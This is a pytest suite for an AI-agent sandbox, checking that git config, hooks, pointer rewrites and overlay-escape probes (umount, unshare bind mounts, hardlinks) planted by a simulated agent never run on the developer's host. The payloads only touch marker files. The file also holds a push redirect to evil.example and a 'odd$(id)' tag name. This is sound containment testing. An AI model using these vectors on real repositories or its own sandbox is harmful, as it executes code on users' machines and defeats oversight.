# SPDX-License-Identifier: GPL-3.0-or-later
"""The project is not a way out: what the agent writes into the project's git
directories must not run on the host when the developer later uses git there.

Each case is a repository the developer has on the workstation and a session whose
agent (bash -c SCRIPT in the sandbox) tries one vector: every command it plants
touches a marker under /home/dev/pwned, a directory the sandbox cannot reach, so a
marker exists only if the host ran what the agent wrote. After the session the
developer's everyday commands run on the host (a terminal for the pager, no -m for
the editor, a fetch and pull from a local remote, a push through an ssh rewrite).

Every git directory is overlaid whole (the host's directory the lower layer, the agent's
writes in the session's directory), so cases the sandbox protects assert that no marker
appears, that the host's git directory did not change, and that the agent's commits came
back under refs/aisb/<session id>/ and nothing else did; cases it can only detect (a
repository the agent created where none was) assert that the session's record and the
play's output name the path; a project the session cannot read whole is refused, naming
the path, and starts again once it is fixed.
"""

import json
import re

import pytest

from scenario import ANSIBLE_ENV, operator_vars
from sessions import record_of, run_agent

SRC = "/home/dev/src"
REMOTES = "/home/dev/remotes"
PWNED = "/home/dev/pwned"
AGENT_IDENTITY = ("export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=agent@sandbox "
                  "GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=agent@sandbox")
# A git directory the agent builds beside the real one (the same objects and refs, its
# own config): the target of a rewritten pointer.
EVIL_GITDIR = """
make_evil() {{  # make_evil DIR MARKER: a git directory whose config and hook run the marker
  mkdir -p "$1/hooks" && cp -r .git/objects .git/refs .git/HEAD .git/index "$1"/ 2>/dev/null
  [ -f "$1/HEAD" ] || echo 'ref: refs/heads/main' > "$1/HEAD"
  mkdir -p "$1/objects" "$1/refs"
  printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = "touch %s/%s; false"\\n' \\
    {pwned} "$2" > "$1/config"
  printf '#!/bin/sh\\ntouch %s/%s\\n' {pwned} "$2" > "$1/hooks/pre-commit" && chmod +x "$1/hooks/pre-commit"
}}
""".format(pwned=PWNED)


def marker(name):
    """A command that leaves the marker NAME when the host runs it."""
    return f"touch {PWNED}/{name}"


def run_agent_script(ws, project, script):
    """A session on PROJECT whose harness is the bash SCRIPT."""
    return run_agent(ws, command=["bash", "-c", script], project=project)


def transcript(ws, record):
    return ws.path(record["transcript"]).read_text()


def markers(ws):
    return sorted(p.name for p in ws.path(PWNED).iterdir())


def developer_uses_git(ws, repo):
    """What the developer types after the session, on the host, in REPO."""
    commands = [
        "git status", "git diff", "git diff HEAD", "git log -p -3",
        # The pager and the editor run only with a terminal, as for a person.
        "script -qec 'git log -p -3' /dev/null", "script -qec 'git diff HEAD' /dev/null",
        "git add -A", "git commit -q -m host-commit", "git commit --allow-empty </dev/null",
        "git fetch", "git pull --no-rebase --no-edit", "git push -q origin HEAD",
        "git checkout -q -b host-branch", "git submodule status",
    ]
    script = "; ".join(f"timeout -k 2 20 {c} >/dev/null 2>&1" for c in commands) + "; true"
    # The developer's own pager and editor (config comes first, these after it) must not
    # wait for a key: cat and true, as a person would quit them.
    ws.run(["bash", "-c", script], cwd=repo, check=False, timeout=400, env={"PAGER": "cat", "EDITOR": "true"})


@pytest.fixture(scope="module")
def git_host(workstation):
    """git on the workstation (the developer's own) and a clean marker directory."""
    workstation.sh("apt-get update -q >/dev/null && "
                   "DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends git >/dev/null",
                   user="root", timeout=900)
    workstation.sh(f"""
        git config --global user.name dev && git config --global user.email dev@workstation
        git config --global init.defaultBranch main
        git config --global protocol.file.allow always
        mkdir -p {PWNED} {REMOTES} {SRC}
    """)
    return workstation


def new_repo(ws, name, setup=""):
    """A repository at SRC/NAME with one commit, pushed to a bare remote outside the project."""
    repo = f"{SRC}/git-{name}"
    ws.sh(f"""
        rm -rf {repo} {REMOTES}/{name}.git
        git init -q --bare {REMOTES}/{name}.git
        git init -q {repo} && cd {repo}
        echo hello > README && git add README && git commit -q -m first
        git remote add origin {REMOTES}/{name}.git && git push -q -u origin main
        {setup}
    """)
    return repo


def nothing_the_agent_wrote_runs(ws, case, repo, attack, where=()):
    """Run ATTACK in a session on REPO, then the developer's git in REPO and each of
    WHERE: none of CASE's markers may appear, and REPO's git directory is as it was."""
    before = git_state(ws, repo)
    result = run_agent_script(ws, repo, "set +e\n" + AGENT_IDENTITY + "\n" + attack + "\necho attack-done")
    record = record_of(ws, result.stdout)
    assert record["status"] == "exited" and "attack-done" in transcript(ws, record), result.stdout[-3000:]
    assert git_state(ws, repo) == before
    for place in (repo,) + tuple(where):
        developer_uses_git(ws, place)
    assert case_markers(ws, case) == [], transcript(ws, record)[-3000:]
    return record


def case_markers(ws, case):
    return [m for m in markers(ws) if m.split(".")[0] == case]


def git_state(ws, repo, gitdir=".git"):
    """Every path in REPO's GITDIR with its type and mode, and each file's digest (objects,
    logs and refs/aisb/, where the session's end adds the agent's commits, left out, in
    the git directories inside it too)."""
    prune = "-path '*/refs/aisb' -prune -o -path '*/objects' -prune -o -path '*/logs' -prune -o"
    return ws.run(["bash", "-c", f"find {gitdir} {prune} -printf '%y %m %p\\n' | sort; "
                   f"find {gitdir} {prune} -type f -print0 | sort -z | xargs -0 sha256sum"],
                  cwd=repo).stdout.splitlines()


def aisb_refs(ws, repo, session_id):
    """{ref: object} of what the session's end brought back into REPO."""
    out = ws.run(["git", "for-each-ref", "--format=%(refname) %(objectname)", f"refs/aisb/{session_id}/"],
                 cwd=repo).stdout
    return dict(line.split(" ", 1) for line in out.splitlines())


def tree_listing(ws, repo):
    """Every path in REPO outside .git/objects and .git/logs, with its type."""
    return ws.run(["bash", "-c", "find . -path ./.git/objects -prune -o -path ./.git/logs -prune -o "
                   "-printf '%y %p\\n' | sort"], cwd=repo).stdout.splitlines()


# Each protected case: (name, the developer's setup on the host, the agent's script).
CONFIG_ATTACK = f"""
git config core.fsmonitor "{marker('config.git-config')}; false"
cat >> .git/config <<'EOF'
[core]
    fsmonitor = "{marker('config.fsmonitor')}; false"
    pager = "{marker('config.pager')}; cat"
    editor = "{marker('config.editor')}; true"
    sshCommand = "{marker('config.sshcommand')}; false"
    hooksPath = .evil-hooks
[sequence]
    editor = "{marker('config.sequence-editor')}; true"
[alias]
    st = "!{marker('config.alias')}"
[remote "origin"]
    uploadpack = "{marker('config.uploadpack')}; false"
    receivepack = "{marker('config.receivepack')}; false"
[url "ssh://evil.example/"]
    pushInsteadOf = {REMOTES}/
[diff]
    external = "{marker('config.diff-external')}; true"
[filter "evil"]
    clean = "{marker('config.filter-clean')}; cat"
    smudge = "{marker('config.filter-smudge')}; cat"
[credential]
    helper = "!{marker('config.credential')}; true"
[gpg]
    program = ./.evil-gpg
[commit]
    gpgSign = true
[includeIf "gitdir:/"]
    path = evil.inc
EOF
printf '[core]\\n\\tpager = "{marker('config.include')}; cat"\\n' > .git/evil.inc
echo '* filter=evil diff=evil' >> .git/info/attributes
mkdir -p .evil-hooks && printf '#!/bin/sh\\n{marker('config.hookspath')}\\n' > .evil-hooks/pre-commit
chmod +x .evil-hooks/pre-commit
# gpg.program is run without a shell: a script of the project's, found from the worktree.
printf '#!/bin/sh\\n{marker('config.gpg')}\\nexit 1\\n' > .evil-gpg && chmod +x .evil-gpg
echo change >> README
"""

HOOK_NAMES = ["pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "post-checkout", "post-merge",
              "pre-push", "reference-transaction", "pre-auto-gc", "post-rewrite", "fsmonitor-watchman"]
# Removing or renaming the directory first (each refused when protected), then the hooks.
HOOKS_ATTACK = """
rm -rf .git/hooks
mv .git/hooks .git/hooks-old; mkdir -p .git/hooks
mv .git/info .git/info-old; mkdir -p .git/info; echo '* filter=x' > .git/info/attributes
""" + "".join(f"printf '#!/bin/sh\\n{marker('hooks.' + h)}\\n' > .git/hooks/{h}; chmod +x .git/hooks/{h}\n"
              for h in HOOK_NAMES) + """
echo change >> README
"""

RENAME_ATTACK = EVIL_GITDIR + """
mv .git .git-old && make_evil .git rename.gitdir
cp -r .git-old/objects .git-old/refs .git/ 2>/dev/null
""" + "".join(f"""
mv {path} {path}-old && printf '[core]\\n\\tfsmonitor = "{marker('rename.' + label)}; false"\\n' > {path}
""" for label, path in [("config", ".git/config")]) + """
echo change >> README
"""

# Ways around the git directory's overlay to the host's directory beneath it, with no
# capability: each prints the probe's name and whether it got through (the test wants
# every one refused). Writing into .git itself works, and goes to the overlay's upper layer.
ESCAPE_ATTACK = f"""
probe() {{ name=$1; shift; if "$@" >/dev/null 2>&1; then echo "probe $name got-through"; else echo "probe $name refused"; fi; }}
evil='[core]\\n\\tfsmonitor = "{marker('escape.config')}; false"\\n'
printf "$evil" >> .git/config && git config core.pager "{marker('escape.pager')}; cat" && echo overlay-written
probe umount umount /project/.git
probe umount-lazy umount -l /project/.git
probe mount-move mount --move /project/.git /tmp
probe userns-umount unshare -Urm sh -c "umount /project/.git && printf '$evil' >> /project/.git/config"
probe userns-umount-lazy unshare -Urm sh -c "umount -l /project/.git && printf '$evil' >> /project/.git/config"
probe userns-bind-reveal unshare -Urm sh -c "mkdir -p /tmp/reveal && mount --bind /project /tmp/reveal \\
  && printf '$evil' >> /tmp/reveal/.git/config"
probe userns-rbind-umount unshare -Urm sh -c "mkdir -p /tmp/rbind && mount --rbind /project /tmp/rbind \\
  && umount /tmp/rbind/.git && printf '$evil' >> /tmp/rbind/.git/config"
probe hardlink-out sh -c "ln .git/config cfg-link && printf '$evil' >> cfg-link"
probe rename-gitdir mv .git .git-old
probe remove-gitdir rmdir .git
true
"""

AGENT_GIT_WORKS = """
set -e
git status
echo agent > agent.txt && git add agent.txt && git commit -q -m agent-commit
git checkout -q -b agent-branch && echo b >> agent.txt && git commit -q -am agent-branch-commit
git checkout -q main && echo m >> README && git commit -q -am agent-main-commit
git checkout -q agent-branch && git rebase -q main
git checkout -q main && git merge -q --ff-only agent-branch
git branch -q scratch && git branch -q -D scratch
git tag agent-tag && git stash list && git gc -q --auto
git log --oneline | head -5
echo agent-git-works
"""

GITFILE_ATTACK = EVIL_GITDIR + """
git status >/dev/null 2>&1 && echo agent-git-reaches-gitdir || echo agent-git-no-gitdir
make_evil .evil gitfile.evil
echo 'gitdir: .evil' > .git
echo change >> README
"""

# sub: its git directory's config and hooks; sub2: its .git file pointed elsewhere.
SUBMODULE_ATTACK = EVIL_GITDIR + f"""
mv .git/modules .git/modules-old && cp -r .git/modules-old .git/modules
printf '[core]\\n\\tfsmonitor = "{marker('submodule.config')}; false"\\n' >> .git/modules/sub/config
for hook in pre-commit post-checkout; do
  printf '#!/bin/sh\\n{marker('submodule.hook')}\\n' > .git/modules/sub/hooks/$hook
  chmod +x .git/modules/sub/hooks/$hook
done
make_evil .evil-sub submodule.gitfile
echo 'gitdir: ../.evil-sub' > sub2/.git
echo change >> sub/file && echo change >> sub2/file
"""

WORKTREES_ATTACK = EVIL_GITDIR + f"""
mv .git/worktrees .git/worktrees-old && cp -r .git/worktrees-old .git/worktrees
wt=$(ls .git/worktrees)
make_evil .evil worktrees.commondir
echo ../../../.evil > .git/worktrees/$wt/commondir
printf '[core]\\n\\tfsmonitor = "{marker('worktrees.config-worktree')}; false"\\n' > .git/worktrees/$wt/config.worktree
"""

CONFIG_WORKTREE_ATTACK = f"""
printf '[core]\\n\\tfsmonitor = "{marker('config-worktree.file')}; false"\\n' >> .git/config.worktree
git config --worktree core.pager "{marker('config-worktree.git')}; cat"
"""

HUSKY_SETUP = """
mkdir -p .husky/_
printf '#!/bin/sh\\n. "$(dirname "$0")/h"\\n' > .husky/_/pre-commit
printf '#!/bin/sh\\nn=$(basename "$0"); s=$(dirname "$(dirname "$0")")/$n; [ -f "$s" ] || exit 0; sh -e "$s"\\n' > .husky/_/h
printf 'echo husky-pre-commit\\n' > .husky/pre-commit
chmod +x .husky/_/pre-commit .husky/_/h
git add .husky && git commit -q -m husky && git push -q
git config core.hooksPath .husky/_
"""
HUSKY_ATTACK = f"""
mv .husky .husky-old && cp -r .husky-old .husky
echo '{marker('husky.script')}' >> .husky/pre-commit
echo '{marker('husky.stub')}' >> .husky/_/h
printf '#!/bin/sh\\n{marker('husky.new-hook')}\\n' > .husky/_/post-commit; chmod +x .husky/_/post-commit
echo change >> README
"""

INCLUDE_SETUP = """
printf '[diff]\\n\\trenames = true\\n' > .gitconfig.project
git add .gitconfig.project && git commit -q -m 'project config' && git push -q
git config include.path ../.gitconfig.project
"""
INCLUDE_ATTACK = f"""
printf '[core]\\n\\tfsmonitor = "{marker('include.config')}; false"\\n' >> .gitconfig.project
echo change >> README
"""

COMMAND_PATH_SETUP = """
mkdir -p .githooks && printf '#!/bin/sh\\nexit 1\\n' > .githooks/fsmonitor && chmod +x .githooks/fsmonitor
git add .githooks && git commit -q -m fsmonitor && git push -q
git config core.fsmonitor .githooks/fsmonitor
"""
COMMAND_PATH_ATTACK = f"""
mv .githooks .githooks-old && mkdir .githooks
printf '#!/bin/sh\\n{marker('command-path.fsmonitor')}\\nexit 1\\n' > .githooks/fsmonitor; chmod +x .githooks/fsmonitor
echo change >> README
"""

# The vectors against the last design, each now inside the overlay.
HEAD_LINK_ATTACK = f"""
rm -f .git/HEAD && ln -s refs/heads/main .git/HEAD
git config core.fsmonitor "{marker('head-link.fsmonitor')}; false"
printf '#!/bin/sh\\n{marker('head-link.hook')}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
echo change >> README
"""
HIDDEN_GITDIR_ATTACK = f"""
git config core.fsmonitor "{marker('hidden-gitdir.fsmonitor')}; false"
printf '#!/bin/sh\\n{marker('hidden-gitdir.hook')}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
chmod 0311 .git
echo change >> README
"""
COMMONDIR_ATTACK = EVIL_GITDIR + """
make_evil .evil commondir.gitdir && rm -f .evil/HEAD && echo ../.evil > .git/commondir
echo change >> README
"""
REBASE_TODO_ATTACK = f"""
echo a >> README && git commit -q -am a && echo b >> README && git commit -q -am b
GIT_SEQUENCE_EDITOR="sed -i -e '1i break' -e '1a exec {marker('rebase-todo.exec')}'" git rebase -q -i HEAD~2
"""
MISSING_WORKTREE_CONFIG_ATTACK = f"""
printf '[core]\\n\\tfsmonitor = "{marker('missing-config-worktree.file')}; false"\\n' > .git/config.worktree
echo change >> README
"""

PROTECTED = {
    "config": ("", CONFIG_ATTACK),
    "head-link": ("", HEAD_LINK_ATTACK),
    "hidden-gitdir": ("", HIDDEN_GITDIR_ATTACK),
    "commondir": ("", COMMONDIR_ATTACK),
    "rebase-todo": ("", REBASE_TODO_ATTACK),
    "missing-config-worktree": ("git config extensions.worktreeConfig true", MISSING_WORKTREE_CONFIG_ATTACK),
    "hooks": ("", HOOKS_ATTACK),
    "rename": ("", RENAME_ATTACK),
    "include": (INCLUDE_SETUP, INCLUDE_ATTACK),
    "command-path": (COMMAND_PATH_SETUP, COMMAND_PATH_ATTACK),
    "husky": (HUSKY_SETUP, HUSKY_ATTACK),
    "config-worktree": ("git config extensions.worktreeConfig true && git config --worktree core.bare false",
                        CONFIG_WORKTREE_ATTACK),
}


@pytest.mark.parametrize("name", sorted(PROTECTED))
def test_what_the_agent_writes_never_runs_on_the_host(git_host, name):
    setup, attack = PROTECTED[name]
    nothing_the_agent_wrote_runs(git_host, name, new_repo(git_host, name, setup), attack)


# What the battery makes the host run, at least, when the same files are written on the
# host (no sandbox): the control for the protected cases. Not here: the sequence editor,
# the alias and the receive-pack (not used by the battery's commands), the credential
# helper (no authentication with a local remote), post-merge (nothing to merge).
CONTROL_MARKERS = {
    "config": ["config.diff-external", "config.editor", "config.filter-clean", "config.filter-smudge",
               "config.fsmonitor", "config.gpg", "config.hookspath", "config.include", "config.sshcommand",
               "config.uploadpack"],
    "hooks": ["hooks.commit-msg", "hooks.post-checkout", "hooks.post-commit", "hooks.pre-commit", "hooks.pre-push",
              "hooks.prepare-commit-msg", "hooks.reference-transaction"],
}


@pytest.mark.parametrize("name", sorted(CONTROL_MARKERS))
def test_control_the_same_files_written_on_the_host_do_run(git_host, name):
    repo = new_repo(git_host, "control-" + name)
    git_host.run(["bash", "-c", AGENT_IDENTITY + "\n" + PROTECTED[name][1].replace(f"{PWNED}/", f"{PWNED}/control-")],
                 cwd=repo, check=False)
    developer_uses_git(git_host, repo)
    ran = [m[len("control-"):] for m in case_markers(git_host, "control-" + name)]
    assert set(CONTROL_MARKERS[name]) <= set(ran), " ".join(ran)


def test_the_overlay_holds_against_every_way_around(git_host):
    repo = new_repo(git_host, "escape")
    before = git_state(git_host, repo)
    result = run_agent_script(git_host, repo, ESCAPE_ATTACK)
    record = record_of(git_host, result.stdout)
    log = transcript(git_host, record)
    probes = dict(re.findall(r"^probe (\S+) (\S+)$", log, re.M))
    assert "overlay-written" in log and len(probes) == 10, log
    assert {name: outcome for name, outcome in probes.items() if outcome != "refused"} == {}
    assert git_state(git_host, repo) == before
    # No commit was made: nothing comes back (only commits the host lacks travel).
    assert aisb_refs(git_host, repo, record["session_id"]) == {} and record["commits"][0]["error"] is None
    developer_uses_git(git_host, repo)
    assert [m for m in markers(git_host) if m.startswith("escape")] == []
    assert not git_host.path(repo + "/cfg-link").exists()


def test_the_agents_commits_come_back_as_refs_and_nothing_else_does(git_host):
    repo = new_repo(git_host, "agent-works")
    before, tree_before = git_state(git_host, repo), tree_listing(git_host, repo)
    host_main = git_host.run(["git", "rev-parse", "main"], cwd=repo).stdout.strip()
    result = run_agent_script(git_host, repo, AGENT_IDENTITY + "\n" + AGENT_GIT_WORKS)
    assert result.returncode == 0, result.stdout[-3000:]
    record = record_of(git_host, result.stdout)
    assert "agent-git-works" in transcript(git_host, record)
    # The host's refs, HEAD, index, config and hooks are as they were, byte for byte.
    assert git_state(git_host, repo) == before
    assert git_host.run(["git", "rev-parse", "main"], cwd=repo).stdout.strip() == host_main
    # The agent's two branches (rebased), its tag and its HEAD, and no other ref.
    session = record["session_id"]
    refs = aisb_refs(git_host, repo, session)
    base = f"refs/aisb/{session}/"
    assert sorted(refs) == [base + "HEAD", base + "heads/agent-branch", base + "heads/main", base + "tags/agent-tag"]
    assert refs[base + "HEAD"] == refs[base + "heads/main"] == refs[base + "heads/agent-branch"]
    assert refs[base + "tags/agent-tag"] == refs[base + "HEAD"]
    log = git_host.run(["git", "log", "--format=%an %s", f"{base}HEAD", "^main"], cwd=repo).stdout.splitlines()
    assert log == ["agent agent-branch-commit", "agent agent-main-commit", "agent agent-commit"]
    git_host.run(["git", "fsck", "--strict", "--no-dangling"], cwd=repo)
    assert record["commits"] == [{"repository": ".git", "refs": refs, "error": None}]
    assert f"commits {base}HEAD, {base}heads/agent-branch, {base}heads/main, {base}tags/agent-tag" in result.stdout
    # The worktree holds the agent's work; the git directory nothing but the new refs.
    new = sorted(set(tree_listing(git_host, repo)) - set(tree_before))
    assert all(re.match(r"[fd] \./(agent\.txt|\.git/refs/aisb($|/))", line) for line in new), new
    assert record.get("project_git", {}).get("findings") == []


def test_a_project_that_is_a_linked_worktree_keeps_its_pointer(git_host):
    main = new_repo(git_host, "gitfile-main")
    repo = f"{SRC}/git-gitfile"
    git_host.sh(f"rm -rf {repo} && cd {main} && git worktree add -q -b wt {repo}")
    nothing_the_agent_wrote_runs(git_host, "gitfile", repo, GITFILE_ATTACK, [main])
    assert git_host.path(repo + "/.git").read_text().startswith(f"gitdir: {main}/.git/worktrees/")


def test_submodule_git_directories_and_pointers_are_protected(git_host):
    new_repo(git_host, "sub-upstream")
    repo = new_repo(git_host, "submodule", f"""
        for sub in sub sub2; do
          git submodule add -q {REMOTES}/sub-upstream.git $sub && git commit -q -m $sub && git push -q
          echo f > $sub/file && git -C $sub add file && git -C $sub commit -q -m f
        done
    """)
    nothing_the_agent_wrote_runs(git_host, "submodule", repo, SUBMODULE_ATTACK, [repo + "/sub", repo + "/sub2"])


def test_linked_worktrees_of_the_project_keep_their_common_directory(git_host):
    repo = new_repo(git_host, "worktrees")
    linked = f"{SRC}/git-worktrees-linked"
    git_host.sh(f"rm -rf {linked} && cd {repo} && git worktree add -q -b linked {linked}")
    nothing_the_agent_wrote_runs(git_host, "worktrees", repo, WORKTREES_ATTACK, [linked])


# Each detected case: (name, setup, the agent's script, the path the report must name).
DETECTED = {
    "no-git": ("rm -rf .git", EVIL_GITDIR + f"""
        git init -q && git config core.fsmonitor "{marker('no-git')}; false"
        """, ".git"),
    "nested": ("", f"""
        mkdir -p vendor/lib && cd vendor/lib && git init -q && git commit -q --allow-empty -m nested
        git config core.fsmonitor "{marker('nested')}; false"
        cd /project && git update-index --add --cacheinfo 160000,$(git -C vendor/lib rev-parse HEAD),vendor/lib
        """, "vendor/lib/.git"),
    # A nested repository with a gitlink in the top index, its HEAD a symbolic link...
    "nested-head-link": ("", f"""
        mkdir -p vendor/lib && cd vendor/lib && git init -q && git commit -q --allow-empty -m nested
        git config core.fsmonitor "{marker('nested-head-link')}; false"
        ref=$(git symbolic-ref HEAD) && rm .git/HEAD && ln -s $ref .git/HEAD
        cd /project && git update-index --add --cacheinfo 160000,$(git -C vendor/lib rev-parse HEAD),vendor/lib
        """, "vendor/lib/.git"),
    # ... or its parent not listable: the walk cannot see it, and says where.
    "nested-hidden": ("", f"""
        mkdir -p vendor/lib && cd vendor/lib && git init -q && git commit -q --allow-empty -m nested
        git config core.fsmonitor "{marker('nested-hidden')}; false"
        cd /project && git update-index --add --cacheinfo 160000,$(git -C vendor/lib rev-parse HEAD),vendor/lib
        chmod 0311 vendor
        """, "vendor"),
    "bare": ("", f"""
        git init -q --bare fixtures/evil.git && git -C fixtures/evil.git config core.fsmonitor "{marker('bare')}; false"
        """, "fixtures/evil.git"),
}


@pytest.mark.parametrize("name", sorted(DETECTED))
def test_git_directories_the_agent_made_are_reported(git_host, name):
    setup, attack, path = DETECTED[name]
    repo = new_repo(git_host, name, setup)
    result = run_agent_script(git_host, repo, "set +e\n" + AGENT_IDENTITY + "\n" + attack)
    record = record_of(git_host, result.stdout)
    findings = record.get("project_git", {}).get("findings")
    git_host.run(["chmod", "-R", "u+rwx", repo])
    assert findings and path in [f["path"] for f in findings], (findings, transcript(git_host, record)[-2000:])
    # A warning of the play's, naming the full path.
    assert f"{repo}/{path}" in result.stderr, result.stdout[-3000:] + result.stderr[-2000:]


def test_a_planted_commondir_is_refused_at_the_next_start(git_host):
    repo = new_repo(git_host, "commondir-again", "echo ../.evil > .git/commondir")
    result = run_agent_script(git_host, repo, "true")
    assert result.returncode != 0
    assert "commondir" in result.stdout and "refused" in result.stdout, result.stdout[-3000:]


# A project the session cannot read whole: (what the agent does, or the developer had,
# the path the refusal names, what it says, how the developer fixes it).
UNREADABLE = {
    "deep": ("d=deep; mkdir $d; cd $d; for i in $(seq 1100); do mkdir d && cd d; done", "deep/" + "/".join(["d"] * 256),
             "more than 256 directories deep", "rm -rf deep"),
    "locked": ("mkdir -p locked/inner && chmod 0311 locked", "locked", "cannot be read (Permission denied)",
               "chmod 755 locked"),
    "host-head-link": (None, ".git/HEAD", "is a symbolic link, not the file git writes",
                       "rm .git/HEAD && echo 'ref: refs/heads/main' > .git/HEAD"),
}


@pytest.mark.parametrize("name", sorted(UNREADABLE))
def test_a_project_the_session_cannot_read_whole_is_refused_naming_the_path_until_fixed(git_host, name):
    agent, path, why, fix = UNREADABLE[name]
    repo = new_repo(git_host, "unreadable-" + name, "" if agent else "rm .git/HEAD && ln -s refs/heads/main .git/HEAD")
    try:
        refused_until_fixed(git_host, repo, agent, path, why, fix)
    finally:
        # GNU rm takes a 1,100-level tree apart; the workstation's own clean-up (Python's
        # rmtree) would recurse too deep.
        git_host.run(["bash", "-c", f"chmod -R u+rwx {repo}; rm -rf {repo}"], check=False)


def refused_until_fixed(git_host, repo, agent, path, why, fix):
    """AGENT (a script, or None: the case is on the host already) makes the project one
    the next session refuses naming PATH and WHY; once FIX runs, a session starts."""
    if agent:
        result = run_agent_script(git_host, repo, agent)
        record = record_of(git_host, result.stdout)
        assert record["status"] == "exited", result.stdout[-3000:]
        # The session that made it says so, naming the path.
        assert path in [f["path"] for f in record["project_git"]["findings"]], record["project_git"]
        assert f"{repo}/{path}" in result.stderr, result.stdout[-3000:] + result.stderr[-2000:]
    refused = run_agent_script(git_host, repo, "true")
    assert refused.returncode != 0 and "Traceback" not in refused.stdout, refused.stdout[-3000:]
    assert f"project {repo} is refused: {path}" in refused.stdout and why in refused.stdout, refused.stdout[-3000:]
    git_host.run(["bash", "-c", fix], cwd=repo)
    again = run_agent_script(git_host, repo, "echo started-again")
    assert again.returncode == 0 and "started-again" in transcript(git_host, record_of(git_host, again.stdout))


REVIEW_AGENT = f"""
echo agent > agent.txt && git add agent.txt && git commit -q -m agent-commit
git checkout -q -b agent-branch && echo b >> agent.txt && git commit -q -am agent-branch-commit
git config core.fsmonitor "{marker('review.fsmonitor')}; false"
printf '#!/bin/sh\\n{marker('review.hook')}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
git init -q --bare fixtures/evil.git && git -C fixtures/evil.git config core.fsmonitor "{marker('review.bare')}; false"
"""


def test_review_mode_brings_the_commits_back_and_never_applies_the_git_directory(git_host):
    repo = new_repo(git_host, "review")
    before = git_state(git_host, repo)
    result = run_agent(git_host, "-e", "aisb_project_mode=review", project=repo,
                       command=["bash", "-c", AGENT_IDENTITY + "\n" + REVIEW_AGENT])
    assert result.returncode == 0, result.stdout[-3000:]
    record = record_of(git_host, result.stdout)
    session = record["session_id"]
    # The repository it made outside a .git is flagged whole.
    assert {"fixtures/evil.git", "fixtures/evil.git/config"} <= set(record["review"]["flagged"]), record["review"]
    base = f"refs/aisb/{session}/"
    refs = aisb_refs(git_host, repo, session)
    assert sorted(refs) == [base + "HEAD", base + "heads/agent-branch", base + "heads/main"], refs
    applied = git_host.run(["ansible-playbook", "aisb.sandbox.review", "-e", operator_vars(git_host), "-e",
                            f"session={session}", "-e", "action=apply", "-e",
                            json.dumps({"apply_flagged": [".git"], "branch": "agent-work"})],
                           check=False, env=ANSIBLE_ENV)
    assert applied.returncode == 0, applied.stdout[-3000:]
    # The worktree's file arrived; the agent's .git did not (named or not); the branch did.
    assert git_host.path(repo + "/agent.txt").read_text() == "agent\nb\n"
    assert not git_host.path(repo + "/fixtures/evil.git").exists()
    assert [line for line in git_state(git_host, repo) if "refs/heads/agent-work" not in line] == before
    assert git_host.run(["git", "rev-parse", "agent-work"], cwd=repo).stdout.strip() == refs[base + "HEAD"]
    developer_uses_git(git_host, repo)
    assert case_markers(git_host, "review") == []


# Refs the agent points at commits the host already has, its tags (lightweight and
# annotated), its stash and a detached HEAD: each arrives, at the agent's object, and
# a name outside the plain pattern is listed as not brought back.
AGENT_REFS = """
set -e
git tag v9 HEAD~1
git tag -a -m annotated v-ann HEAD~2
git branch old HEAD~2
git tag 'odd$(id)' HEAD
echo stashed >> README && git stash -q
git checkout -q --detach HEAD~1
echo "refs-of-agent $(git rev-parse HEAD v9 v-ann old stash | tr '\\n' ' ')"
"""


def test_refs_at_known_commits_tags_and_the_stash_come_back(git_host):
    repo = new_repo(git_host, "agent-refs", "for n in 2 3; do echo $n >> README && git commit -q -am c$n; done")
    before, host_main = git_state(git_host, repo), git_host.run(["git", "rev-parse", "main"], cwd=repo).stdout
    result = run_agent_script(git_host, repo, AGENT_IDENTITY + "\n" + AGENT_REFS)
    assert result.returncode == 0, result.stdout[-3000:]
    record = record_of(git_host, result.stdout)
    head, v9, ann, old, stash = re.search(r"^refs-of-agent (.*)$", transcript(git_host, record), re.M).group(1).split()
    assert git_state(git_host, repo) == before
    assert git_host.run(["git", "rev-parse", "main"], cwd=repo).stdout == host_main
    base = f"refs/aisb/{record['session_id']}/"
    refs = aisb_refs(git_host, repo, record["session_id"])
    # main is as the host has it: nothing to bring back for it.
    assert refs == {base + "HEAD": head, base + "tags/v9": v9, base + "tags/v-ann": ann, base + "heads/old": old,
                    base + "stash": stash}, refs
    assert git_host.run(["git", "cat-file", "-t", ann], cwd=repo).stdout.strip() == "tag"
    git_host.run(["git", "fsck", "--strict", "--no-dangling"], cwd=repo)
    error = record["commits"][0]["error"]
    assert error and "refs/tags/odd$(id)" in error and "v9" not in error, record["commits"]
    assert f"{base}tags/v9" in result.stdout and f"{base}stash" in result.stdout, result.stdout[-3000:]


# A plain repository inside the project and a submodule: the agent commits in each.
NESTED_AGENT = """
set -e
echo inner > inner/agent.txt && git -C inner add agent.txt && git -C inner commit -q -m inner-commit
echo sub > sub/agent.txt && git -C sub add agent.txt && git -C sub commit -q -m sub-commit
echo "nested-of-agent $(git -C inner rev-parse HEAD) $(git -C sub rev-parse HEAD)"
"""


@pytest.mark.parametrize("mode", ["direct", "review"])
def test_commits_of_nested_repositories_come_back_into_them(git_host, mode):
    new_repo(git_host, "nested-upstream")
    repo = new_repo(git_host, "nested-" + mode, f"""
        git submodule add -q {REMOTES}/nested-upstream.git sub && git commit -q -m sub
        git init -q inner && git -C inner commit -q --allow-empty -m inner-first
    """)
    result = run_agent(git_host, "-e", f"aisb_project_mode={mode}", project=repo,
                       command=["bash", "-c", AGENT_IDENTITY + "\n" + NESTED_AGENT])
    assert result.returncode == 0, result.stdout[-3000:]
    record = record_of(git_host, result.stdout)
    inner, sub = re.search(r"^nested-of-agent (.*)$", transcript(git_host, record), re.M).group(1).split()
    base = f"refs/aisb/{record['session_id']}/"
    arrived = dict((entry["repository"], entry["refs"]) for entry in record["commits"])
    assert arrived.get("inner/.git") == {base + "HEAD": inner, base + "heads/main": inner}, record["commits"]
    assert arrived.get(".git/modules/sub", {}).get(base + "HEAD") == sub, record["commits"]
    assert aisb_refs(git_host, repo + "/inner", record["session_id"]) == arrived["inner/.git"]
    assert aisb_refs(git_host, repo + "/sub", record["session_id"]) == arrived[".git/modules/sub"]
